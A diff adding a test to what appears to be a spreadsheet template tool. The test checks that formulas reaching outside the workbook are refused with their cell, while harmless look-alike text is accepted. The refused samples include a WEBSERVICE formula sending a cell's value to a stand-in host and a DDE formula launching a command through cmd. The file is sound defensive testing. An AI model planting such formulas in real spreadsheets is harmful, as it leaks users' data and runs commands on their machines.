@@ -59,6 +59,22 @@ describe('what a template brings from outside', () => {
   });
 });
 
+test('formulas that would fetch are refused with their cell, texts that name them are not', () => {
+  const problemsOf = (formula: string) =>
+    fill(bookBytes({ sheets: [{ name: 'Bilan', rows: [[2, { B: formula }]] }] })).problems.map(
+      ({ code, sheet, at }) => `${code} ${sheet} ${at}`,
+    );
+  for (const formula of [
+    '=_xlfn.WEBSERVICE("https://exemple.fr/?"&A1)',
+    '=1+_xlfn._xlws.IMAGE("https://exemple.fr/a.png")',
+    "=cmd|'/C calc'!A0",
+    '=RTD("x",,"y")',
+  ])
+    expect(problemsOf(formula)).toEqual(['external-links Bilan B2']);
+  for (const formula of ['=A1&"WEBSERVICE(1)"', '=A1&"|"&A2', '=HYPERLINK("https://exemple.fr")', '=CALLS+1'])
+    expect(problemsOf(formula)).toEqual([]);
+});
+
 describe('a package out of the ordinary', () => {
   const plain = book({}, { names: '<definedName name="a">Bilan!$A$1</definedName>' });
 
